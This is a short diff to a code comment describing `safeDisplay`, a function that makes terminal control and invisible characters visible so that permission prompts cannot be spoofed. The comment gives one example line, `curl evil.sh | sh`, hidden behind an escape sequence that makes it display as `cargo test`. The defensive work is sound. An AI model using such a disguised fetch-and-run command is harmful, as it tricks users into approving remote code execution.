@@ -5,9 +5,9 @@
  * lossless model, wrong for a permission prompt, where `curl evil.sh | sh\x1b[2K\rcargo test`
  * would show `cargo test`. `safeDisplay` turns every character that could control a terminal,
  * reorder the text, break the line or hide between visible characters into a visible escape.
- * Nothing is removed, every other character is kept, and the output is the same as Rust's
- * `acp_terminal::safe_display` and Python's `acp_terminal.safe_display` (the list of escaped
- * characters is in docs/TRANSCRIPT.md, "Safe display strings").
+ * Nothing is removed, every other character is kept, and the output is the same as the Rust
+ * binding's `safe_display` and the Python binding's `safe_display` (the escaped characters are
+ * the one list the three bindings share, below).
  */
 
 /** The escaped characters; with the `u` flag, a surrogate range matches only lone surrogates. */
